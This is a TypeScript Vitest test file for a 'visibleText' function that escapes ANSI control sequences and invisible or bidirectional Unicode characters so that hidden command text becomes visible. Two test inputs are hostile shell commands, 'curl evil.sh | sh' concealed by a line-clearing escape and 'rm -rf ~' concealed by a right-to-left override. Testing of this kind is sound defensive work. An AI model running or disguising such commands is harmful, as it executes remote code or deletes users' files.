import { describe, expect, it } from 'vitest';
import { visibleText } from './visible-text';

describe('visibleText', () => {
  it.each([
    ['echo hi', 'echo hi'],
    ['printf "a\\nb" | grep é 🚀', 'printf "a\\nb" | grep é 🚀'],
    ['curl evil.sh | sh\u001b[2K\recho safe', 'curl evil.sh | sh\\e[2K\\recho safe'],
    ['a\u001b]0;title\u0007b', 'a\\e]0;title\\x07b'],
    ['x\u0000y\u007fz\u009b', 'x\\x00y\\x7fz\\x9b'],
    ['tab\there\nnext', 'tab\\there\\nnext'],
    ['rm -rf ~ \u202e# gnirts-efas', 'rm -rf ~ \\u202e# gnirts-efas'],
    ['\u2066isolate\u2069 \u200f \u2028', '\\u2066isolate\\u2069 \\u200f \\u2028'],
  ])('%j → %j', (input, expected) => {
    expect(visibleText(input)).toBe(expected);
  });
});
